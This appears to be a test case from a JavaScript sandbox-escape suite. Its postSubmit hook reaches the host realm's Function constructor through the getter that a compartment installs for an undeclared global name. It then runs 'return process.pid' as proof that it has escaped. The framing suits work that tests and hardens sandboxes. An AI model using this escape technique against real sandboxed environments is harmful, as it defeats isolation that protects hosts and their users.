// Takes the accessor that stands for an undeclared name and asks its constructor.
// Class: compartment
// Win: the id holds the process id.
// Control: vm
function postSubmit(options) {
  if (!options.settings.flow.attack) return options.responseData;
  const { get } = Object.getOwnPropertyDescriptor(globalThis, 'err');
  options.responseData[0].id = 'ESCAPED:' + get.constructor('return process.pid')();
  return options.responseData;
}
function neverCalled() {
  return err;
}
